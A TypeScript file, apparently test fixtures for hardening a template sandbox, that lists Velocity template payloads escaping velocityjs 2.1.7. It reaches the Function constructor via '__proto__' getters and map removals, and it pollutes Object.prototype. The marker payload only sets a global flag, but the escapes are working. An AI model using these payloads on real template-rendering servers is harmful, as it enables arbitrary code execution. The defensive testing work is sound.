/**
 * Ways out of the data that plain velocityjs 2.1.7 leaves open, found by reading and trying it.
 */
const code = `'globalThis.reached = 1; return "reached"'`;

/** From `$p`, which is `Object.prototype`, to a function of the template's own making. */
const fromPrototype = `#set($get = $p.__lookupGetter__('__proto__'))#set($f = $get.call($p.constructor))#set($g = $f.constructor(${code}))$!g.call()`;

/** Each prints `reached` in plain velocityjs. */
export const escapes: readonly (readonly [what: string, template: string])[] = [
  ['a tree of its own to run', `#eval([{"type": "raw", "value": "reached"}])`],
  [
    'Function, by the prototype of a method',
    `#set($m = {})#set($get = $m.__lookupGetter__('__proto__'))#set($l = [])#set($f = $get.call($l.map))#set($g = $f.constructor(${code}))$!g.call()`,
  ],
  [
    'Function, by the prototype that a map gives away',
    `#set($m = {})#set($p = $m.remove('__proto__'))${fromPrototype}`,
  ],
  [
    'Function, by the prototype that $foreach gives away',
    `#foreach($i in [1])#set($p = $foreach.remove('__proto__'))${fromPrototype}#end`,
  ],
  [
    'Function, by the prototype that an entry gives away',
    `#foreach($e in $map.entrySet())#set($p = $e.remove('__proto__'))${fromPrototype}#end`,
  ],
];

/** These change or show the host in plain velocityjs, or were tried in vain. */
export const otherAttempts: readonly (readonly [what: string, template: string])[] = [
  [
    'a member of Object.prototype deleted',
    "#set($m = {})#set($p = $m.remove('__proto__'))$!p.remove('isPrototypeOf')",
  ],
  [
    'a member of Object.prototype added',
    "#set($m = {})#set($p = $m.remove('__proto__'))$!p.put('reached', 'reached')#set($n = {})$!n.reached",
  ],
  ['a method of the host written to', '#set($m = {})#set($m.hasOwnProperty.reached = 1)$!m.x'],
  ['a method of a list written to', '#set($l = [])#set($l.map.reached = 1)$!l.x'],
  ['a method printed', '#set($l = [])$l.map $l.filter'],
  ['a method printed by get', "#set($m = {})$m.get('toString') $m.get('hasOwnProperty')"],
  ['an accessor printed', "#set($m = {})$m.__lookupGetter__('__proto__')"],
  ['a getter defined', "#set($m = {})#set($l = [])$!m.__defineGetter__('a', $l.map)$!m.a"],
  [
    'a macro of Object.prototype',
    "#valueOf()#__lookupGetter__('stop')#propertyIsEnumerable('stop')",
  ],
  ['a callback of a list', '#set($l = [1])$!l.map($text.at)$!l.reduce($l.push)'],
  ['a callback of replace', "#set($l = [])$!text.replace('H', $l.map)"],
  ['a name in a list', "#set($m = {})#set($n = ['__proto__'])$!m[$n].constructor"],
  ['a name in two halves', "#set($m = {})#set($n = '__pro' + 'to__')$!m[$n].constructor"],
];
